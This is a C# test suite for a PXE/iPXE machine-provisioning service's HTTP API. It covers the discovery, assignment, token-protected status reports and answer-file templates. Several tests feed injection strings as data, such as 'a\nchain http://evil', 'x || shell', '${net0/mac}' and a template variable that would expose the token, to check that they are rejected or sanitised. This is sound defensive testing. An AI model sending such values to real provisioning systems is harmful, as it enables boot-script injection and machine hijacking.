using System.Net;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;
using Bootstrap.Builder.Machines;
using Bootstrap.Tests.Support;

namespace Bootstrap.Tests.Http;

/// <summary>The machines lifecycle through HTTP: discovered → assigned → provisioning → installed → local disk, and every refusal on the way.</summary>
public sealed class MachineRouteTests : IDisposable
{
    private const string Mac = "52:54:00:aa:00:01";
    private const string Uuid = "8a1b2c3d-0000-4000-8000-00000000abcd";
    private readonly TestSite _site = new();

    public MachineRouteTests() => _site.AddProdKernel();

    public void Dispose() => _site.Dispose();

    private static string Facts(string ip = "10.0.2.15") =>
        $"uuid={Uuid}&serial=SN-42&manufacturer=QEMU&product=Standard%20PC&asset=A1&platform=efi&arch=x86_64&ip={ip}";

    private static HttpRequestMessage Status(string mac, string? token, object body) =>
        new(HttpMethod.Post, $"/api/machines/{mac}/status")
        {
            Content = JsonContent.Create(body),
            Headers = { Authorization = token == null ? null : new("Bearer", token) },
        };

    private async Task<string> BootScript(string mac = Mac)
    {
        var response = await _site.Client().GetAsync($"/provision/{mac}?{Facts()}");
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        return await response.Content.ReadAsStringAsync();
    }

    [Fact]
    public async Task Every_mac_a_machine_asks_for_lands_on_one_discovered_machine_with_what_ipxe_said()
    {
        var client = _site.Client();

        var first = await client.GetAsync($"/provision/{Mac}?{Facts()}");
        await client.GetAsync($"/provision/52-54-00-AA-00-02?{Facts()}");

        Assert.Equal(HttpStatusCode.NotFound, first.StatusCode);
        Assert.Equal($"machine {Mac} is not assigned yet (listed as discovered on /machines)\n", await first.Content.ReadAsStringAsync());
        var machine = Assert.Single((await MachineApi.GetAsync(_site.AdminClient(), "/api/machines")).EnumerateArray());
        Assert.Equal($$"""
            {"id":"uuid:{{Uuid}}","mac":"{{Mac}}","macs":["{{Mac}}","52:54:00:aa:00:02"],"state":"discovered","progress":0,"message":null,"uuid":"{{Uuid}}","serial":"SN-42","manufacturer":"QEMU","product":"Standard PC","asset":"A1","platform":"efi","arch":"x86_64","ip":"10.0.2.15","inventory":null,"assignment":null,
            """.Trim(), machine.GetRawText()[..machine.GetRawText().IndexOf("\"firstSeen\"", StringComparison.Ordinal)]);
        Assert.Equal(2, machine.GetProperty("asks").GetInt64());
    }

    [Fact]
    public async Task An_assigned_machine_boots_its_job_with_a_token_reports_progress_and_then_boots_its_disk()
    {
        var admin = _site.AdminClient();
        await _site.Client().GetAsync($"/provision/{Mac}?{Facts()}");

        var assigned = await MachineApi.AssignAsync(admin, Mac, new { network = "prod", farmer = "1234", args = "console=ttyS0", then = "local" });
        var script = await BootScript();
        var token = MachineApi.TokenIn(script);

        Assert.Equal("assigned", assigned.GetProperty("state").GetString());
        Assert.Contains("imgfetch --name kernel http://bootstrap.test/kernel/net/prod.efi nomodeset version=v3 runmode=prod panic=7200 farmer_id=1234 " +
                        $"console=ttyS0 bootstrap_url=http://bootstrap.test bootstrap_token={token} && goto boot ||", Scripts.Lines(Scripts.AsSeenBy(script)));
        Assert.Equal("provisioning", (await MachineApi.GetAsync(admin, $"/api/machines/{Mac}")).GetProperty("state").GetString());

        var progress = await _site.Client().SendAsync(Status(Mac, token, new { state = "progress", progress = 40, message = "copying" }));
        Assert.Equal((HttpStatusCode.OK, """{"state":"provisioning","progress":40}"""), (progress.StatusCode, await progress.Content.ReadAsStringAsync()));
        var installed = await _site.Client().SendAsync(Status(Mac, token, new { state = "installed" }));
        Assert.Equal((HttpStatusCode.OK, """{"state":"installed","progress":100}"""), (installed.StatusCode, await installed.Content.ReadAsStringAsync()));

        var local = await BootScript();
        Assert.Contains("sanboot --no-describe --drive 0x80 || goto failed", Scripts.Lines(local));
        Assert.Contains("iseq ${platform} efi && goto efi ||", Scripts.Lines(local));

        var events = (await MachineApi.GetAsync(admin, $"/api/machines/{Mac}/events")).EnumerateArray()
            .Select(e => $"{e.GetProperty("kind").GetString()}: {e.GetProperty("detail").GetString()}").Reverse().ToList();
        Assert.Equal([
            "discovered: discovered with 52:54:00:aa:00:01",
            "assigned: assigned network=prod farmer=1234 args=console=ttyS0 kernel=- profile=- then=local",
            "script: boot net/prod.efi",
            "status: progress 40%: copying",
            "status: installed",
            "script: local disk",
        ], events);

        var reset = await admin.PostAsync($"/api/machines/{Mac}/reset", null);
        Assert.Equal(HttpStatusCode.OK, reset.StatusCode);
        Assert.Equal(HttpStatusCode.NotFound, (await _site.Client().GetAsync($"/provision/{Mac}")).StatusCode);
        var stale = await _site.Client().SendAsync(Status(Mac, token, new { state = "installed" }));
        Assert.Equal(HttpStatusCode.Unauthorized, stale.StatusCode);   // the reset took the token away
    }

    [Fact]
    public async Task Repeat_machines_boot_their_job_again_after_installed()
    {
        await MachineApi.AssignAsync(_site.AdminClient(), Mac, new { network = "prod", farmer = "9" });
        var token = MachineApi.TokenIn(await BootScript());
        await _site.Client().SendAsync(Status(Mac, token, new { state = "installed" }));

        Assert.Contains("farmer_id=9 bootstrap_url=", await BootScript());
    }

    [Fact]
    public async Task Status_needs_the_machines_own_token_or_the_admin_token()
    {
        var admin = _site.AdminClient();
        await MachineApi.AssignAsync(admin, Mac, new { network = "prod", farmer = "1" });
        await MachineApi.AssignAsync(admin, "52:54:00:aa:00:09", new { network = "prod", farmer = "2" });
        var otherToken = MachineApi.TokenIn(await BootScript("52:54:00:aa:00:09"));

        var none = await _site.Client().SendAsync(Status(Mac, null, new { state = "installed" }));
        var wrong = await _site.Client().SendAsync(Status(Mac, new string('0', 32), new { state = "installed" }));
        var other = await _site.Client().SendAsync(Status(Mac, otherToken, new { state = "installed" }));
        var byAdmin = await _site.Client().SendAsync(Status(Mac, TestSite.Token, new { state = "failed", message = "disk\nerror ${x}" }));

        Assert.Equal((HttpStatusCode.Unauthorized, "status: missing or wrong 'Authorization: Bearer <bootstrap_token>' (the token is on the kernel command line)\n"),
            (none.StatusCode, await none.Content.ReadAsStringAsync()));
        Assert.Equal(HttpStatusCode.Unauthorized, wrong.StatusCode);
        Assert.Equal((HttpStatusCode.Forbidden, $"this token belongs to another machine, not to {Mac}\n"), (other.StatusCode, await other.Content.ReadAsStringAsync()));
        Assert.Equal(HttpStatusCode.OK, byAdmin.StatusCode);
        var machine = await MachineApi.GetAsync(admin, $"/api/machines/{Mac}");
        Assert.Equal(("failed", "disk_error __x_"), (machine.GetProperty("state").GetString(), machine.GetProperty("message").GetString()));
    }

    [Theory]
    [InlineData("/api/machines/nonsense/status", """{"state":"installed"}""", 400, "mac: 'nonsense' is not a MAC address (12 hex digits, e.g. 52:54:00:12:34:56)\n")]
    [InlineData("/api/machines/52:54:00:aa:00:01/status", """{"state":"done"}""", 400, "state: 'done' is not one of progress, installed, failed\n")]
    [InlineData("/api/machines/52:54:00:aa:00:01/status", """{"state":"progress","progress":101}""", 400, "progress: 101 is not between 0 and 100\n")]
    [InlineData("/api/machines/52:54:00:aa:00:01/status", """{"state":"progress","progress":"x"}""", 400, "progress: not a value of the right type (strings in quotes, numbers without)\n")]
    [InlineData("/api/machines/52:54:00:aa:00:02/status", """{"state":"installed"}""", 404, "no machine with MAC 52:54:00:aa:00:02\n")]
    public async Task Bad_status_reports_are_refused_by_name(string path, string body, int status, string message)
    {
        await MachineApi.AssignAsync(_site.AdminClient(), Mac, new { network = "prod", farmer = "1" });
        var request = new HttpRequestMessage(HttpMethod.Post, path) { Content = new StringContent(body, Encoding.UTF8, "application/json") };
        request.Headers.Authorization = new("Bearer", TestSite.Token);

        var response = await _site.Client().SendAsync(request);

        Assert.Equal(message, await response.Content.ReadAsStringAsync());
        Assert.Equal(status, (int)response.StatusCode);
    }

    [Theory]
    [InlineData("""{"network":"main"}""", 400, "network: unknown network 'main'; configured networks: dev, prod, qa, test\n")]
    [InlineData("""{"network":"prod","farmer":"12a"}""", 400, "farmer: character 'a' (U+0061) is not allowed; a farm id is digits only\n")]
    [InlineData("""{"network":"prod","args":"a;reboot"}""", 400, "args: character ';' (U+003B) is not allowed; allowed are letters, digits, space and = _ . , : - + /\n")]
    [InlineData("""{"network":"prod","args":"runmode=dev"}""", 400, "args: 'runmode' is set by the service and cannot be given in args (reserved: runmode, farmer_id, version, panic, bootstrap_url, bootstrap_token, answer_url)\n")]
    [InlineData("""{"network":"prod","then":"later"}""", 400, "then: 'later' is neither repeat nor local\n")]
    [InlineData("""{"network":"prod","kernel":"missing.efi"}""", 400, "kernel: 'missing.efi' is not in the kernels folder\n")]
    [InlineData("""{"network":"prod","hostname":"bad_name"}""", 400, "hostname: 1-63 of a-z, 0-9 and '-', not starting or ending with '-'\n")]
    [InlineData("""{"profile":"nope"}""", 404, "profile: no profile named 'nope'\n")]
    [InlineData("""{"farmer":"1"}""", 400, "network: give a network (or a profile that has one)\n")]
    [InlineData("""[1]""", 400, "body: expected one JSON object\n")]
    public async Task Bad_assignments_are_refused_by_name(string body, int status, string message)
    {
        var response = await _site.AdminClient().PutAsync($"/api/machines/{Mac}", new StringContent(body, Encoding.UTF8, "application/json"));

        Assert.Equal((status, message), ((int)response.StatusCode, await response.Content.ReadAsStringAsync()));
    }

    [Theory]
    [InlineData("/api/machines?state=sleeping", 400, "state: 'sleeping' is not one of discovered, assigned, provisioning, installed, failed\n")]
    [InlineData("/api/machines/52:54:00:ff:00:01", 404, "no machine with MAC 52:54:00:ff:00:01\n")]
    [InlineData("/api/machines/52-54-00-ff-00-0g", 400, "mac: '52-54-00-ff-00-0g' is not a MAC address (12 hex digits, e.g. 52:54:00:12:34:56)\n")]
    [InlineData("/api/machines/52:54:00:ff:00:01/events", 404, "no machine with MAC 52:54:00:ff:00:01\n")]
    [InlineData("/api/profiles/none", 404, "no profile named 'none'\n")]
    public async Task Lookups_of_what_is_not_there_say_so(string path, int status, string message)
    {
        var response = await _site.AdminClient().GetAsync(path);

        Assert.Equal(message, await response.Content.ReadAsStringAsync());
        Assert.Equal(status, (int)response.StatusCode);
    }

    [Theory]
    [InlineData("""{"network":"prod","args":"a\nchain http://evil"}""", "args: character U+000A (line feed) is not allowed; allowed are letters, digits, space and = _ . , : - + /\n")]
    [InlineData("""{"network":"prod","args":"x=${net0/mac}"}""", "args: character '$' (U+0024) is not allowed; allowed are letters, digits, space and = _ . , : - + /\n")]
    [InlineData("""{"network":"prod","args":"a || shell"}""", "args: character '|' (U+007C) is not allowed; allowed are letters, digits, space and = _ . , : - + /\n")]
    [InlineData("""{"network":"prod\u0000"}""", "network: unknown network 'prod?'; configured networks: dev, prod, qa, test\n")]
    [InlineData("""{"network":"prod","farmer":"1\"2"}""", "farmer: character '\"' (U+0022) is not allowed; a farm id is digits only\n")]
    public async Task Profile_fields_that_would_reach_a_script_are_refused(string body, string message)
    {
        var response = await _site.AdminClient().PutAsync("/api/profiles/p1", new StringContent(body, Encoding.UTF8, "application/json"));

        Assert.Equal(message, await response.Content.ReadAsStringAsync());
        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
    }

    [Fact]
    public async Task The_machines_api_needs_the_admin_token()
    {
        var response = await _site.Client().GetAsync("/api/machines");

        Assert.Equal(HttpStatusCode.Unauthorized, response.StatusCode);
    }

    [Fact]
    public async Task A_discover_body_over_its_bound_is_413()
    {
        var body = new StringContent($$"""{"macs":["{{Mac}}"],"serial":"{{new string('x', 70_000)}}"}""", Encoding.UTF8, "application/json");

        var response = await _site.Client().PostAsync("/api/machines/discover", body);

        Assert.Equal((HttpStatusCode.RequestEntityTooLarge, "the body is larger than 65536 bytes\n"), (response.StatusCode, await response.Content.ReadAsStringAsync()));
    }

    [Fact]
    public async Task A_discovery_os_report_keeps_the_inventory_and_cannot_touch_an_assigned_machine()
    {
        var admin = _site.AdminClient();
        await MachineApi.AssignAsync(admin, "52:54:00:aa:00:09", new { network = "prod", farmer = "5" });
        var inventory = new
        {
            macs = new[] { Mac, "52:54:00:aa:00:02" }, uuid = Uuid, serial = "SN\n1", manufacturer = "QEMU", product = "PC",
            inventory = new
            {
                cpus = 2, memory = 536870912L, disks = new[] { new { name = "vda", size = 1073741824L } },
                nics = new[] { new { name = "eth0", mac = Mac } }, dmi = new Dictionary<string, string> { ["bios_vendor"] = "SeaBIOS ${x}" },
            },
        };

        var created = await _site.Client().PostAsJsonAsync("/api/machines/discover", inventory);
        var onAssigned = await _site.Client().PostAsJsonAsync("/api/machines/discover", new { macs = new[] { "52:54:00:aa:00:09" }, serial = "HIJACK" });

        Assert.Equal($$"""{"id":"uuid:{{Uuid}}","state":"discovered"}""", await created.Content.ReadAsStringAsync());
        Assert.Equal("""{"id":"mac:52:54:00:aa:00:09","state":"assigned"}""", await onAssigned.Content.ReadAsStringAsync());
        var machine = await MachineApi.GetAsync(admin, $"/api/machines/{Mac}");
        Assert.Equal("""{"cpus":2,"memory":536870912,"disks":[{"name":"vda","size":1073741824}],"nics":[{"name":"eth0","mac":"52:54:00:aa:00:01"}],"dmi":{"bios_vendor":"SeaBIOS __x_"}}""",
            machine.GetProperty("inventory").GetRawText());
        Assert.Equal("SN_1", machine.GetProperty("serial").GetString());
        var untouched = await MachineApi.GetAsync(admin, "/api/machines/52:54:00:aa:00:09");
        Assert.Equal((JsonValueKind.Null, "assigned"), (untouched.GetProperty("serial").ValueKind, untouched.GetProperty("state").GetString()));
    }

    [Fact]
    public async Task Values_a_machine_sends_never_add_a_line_to_what_the_service_writes()
    {
        string[] attacks = ["a\nchain http://evil", "${net0/mac}", "x || shell", "q\"uote'", "nul\0byte", "back\\slash", "{{ machine.token }}", "a\r\nb"];
        var admin = _site.AdminClient();
        await admin.PutAsJsonAsync("/api/profiles/ks", new { network = "prod", farmer = "1", answer_template = "serial={{ machine.serial }}\nproduct={{ machine.product }}\nhost={{ machine.hostname }}\n" });
        for (var i = 0; i < attacks.Length; i++)
        {
            var mac = $"52:54:00:bb:00:{i:x2}";
            var query = string.Join('&', new[] { "serial", "manufacturer", "product", "asset", "platform", "arch", "uuid", "ip" }
                .Select(k => $"{k}={Uri.EscapeDataString(attacks[i])}"));
            await _site.Client().GetAsync($"/provision/{mac}?{query}");
            await MachineApi.AssignAsync(admin, mac, new { profile = "ks", hostname = "node-1" });
            var script = await BootScript(mac);
            var answer = await _site.Client().GetStringAsync($"/answer/{mac}/{MachineApi.TokenIn(script)}");
            var machine = await MachineApi.GetAsync(admin, $"/api/machines/{mac}");

            Assert.DoesNotContain(Scripts.Lines(script), l => l.Contains("evil") || l.Contains("shell") || l.Contains('"') || l.Contains('\0'));
            Assert.Equal(3, answer.Split('\n', StringSplitOptions.RemoveEmptyEntries).Length);
            Assert.Matches("^serial=[A-Za-z0-9 ._,:/()+#@-]*\nproduct=[A-Za-z0-9 ._,:/()+#@-]*\nhost=node-1\n$", answer);
            Assert.Equal(JsonValueKind.Null, machine.GetProperty("uuid").ValueKind);
            foreach (var field in new[] { "serial", "manufacturer", "product", "asset", "platform", "arch" })
                Assert.Matches("^[A-Za-z0-9 ._,:/()+#@-]+$", machine.GetProperty(field).GetString());
        }
    }

    [Fact]
    public async Task A_profile_renders_its_answer_file_for_the_machine_holding_the_token()
    {
        var admin = _site.AdminClient();
        var saved = await admin.PutAsJsonAsync("/api/profiles/debian", new
        {
            network = "prod", farmer = "77", args = "auto=true", then = "local",
            answer_template = "d-i netcfg/get_hostname string {{ machine.hostname }}\nd-i mirror/suite string {{ machine.network }}\n{% for m in machine.macs %}# nic {{ m }}\n{% endfor %}",
        });
        Assert.Equal(HttpStatusCode.OK, saved.StatusCode);
        await MachineApi.AssignAsync(admin, Mac, new { profile = "debian", hostname = "rack1-node4" });
        var script = await BootScript();
        var token = MachineApi.TokenIn(script);

        var answer = await _site.Client().GetStringAsync($"/answer/{Mac}/{token}");
        var wrong = await _site.Client().GetAsync($"/answer/{Mac}/{new string('1', 32)}");
        var badTemplate = await admin.PutAsJsonAsync("/api/profiles/broken", new { network = "prod", answer_template = "{% for %}" });

        Assert.Contains($"imgfetch --name kernel http://bootstrap.test/kernel/net/prod.efi nomodeset version=v3 runmode=prod panic=7200 farmer_id=77 auto=true " +
                        $"bootstrap_url=http://bootstrap.test bootstrap_token={token} answer_url=http://bootstrap.test/answer/{Mac}/{token} && goto boot ||",
            Scripts.Lines(Scripts.AsSeenBy(script)));
        Assert.Equal($"d-i netcfg/get_hostname string rack1-node4\nd-i mirror/suite string prod\n# nic {Mac}\n", answer);
        Assert.Equal((HttpStatusCode.Forbidden, $"wrong token for machine {Mac}'s answer file\n"), (wrong.StatusCode, await wrong.Content.ReadAsStringAsync()));
        Assert.Equal(HttpStatusCode.BadRequest, badTemplate.StatusCode);
        Assert.StartsWith("answer_template: not valid Liquid: ", await badTemplate.Content.ReadAsStringAsync());
    }

    [Fact]
    public async Task The_boot_log_is_bounded_per_machine()
    {
        await MachineApi.AssignAsync(_site.AdminClient(), Mac, new { network = "prod", farmer = "1" });
        for (var i = 0; i < 250; i++)
        {
            await BootScript();
            await _site.AdminClient().GetAsync($"/api/machines/{Mac}/events");   // each boot its own flush, so none is counted in with another
        }

        var events = await MachineApi.GetAsync(_site.AdminClient(), $"/api/machines/{Mac}/events");

        Assert.Equal(200, events.GetArrayLength());
        Assert.Equal("script: boot net/prod.efi", $"{events[0].GetProperty("kind").GetString()}: {events[0].GetProperty("detail").GetString()}");
    }

    [Fact]
    public async Task Boots_repeated_between_two_writes_are_one_line_with_a_count()
    {
        await MachineApi.AssignAsync(_site.AdminClient(), Mac, new { network = "prod", farmer = "1" });
        await Task.WhenAll(Enumerable.Range(0, 5).Select(_ => BootScript()));

        var events = await MachineApi.GetAsync(_site.AdminClient(), $"/api/machines/{Mac}/events");

        Assert.InRange(events.GetArrayLength(), 2, 6);   // assigned, then the boots: one line unless the timer flushed among them
        var boots = events.EnumerateArray().Where(e => e.GetProperty("kind").GetString() == "script")
            .Sum(e => e.GetProperty("detail").GetString() is var d && d!.EndsWith(")") ? int.Parse(d[(d.LastIndexOf('×') + 1)..^1]) : 1);
        Assert.Equal(5, boots);
    }
}
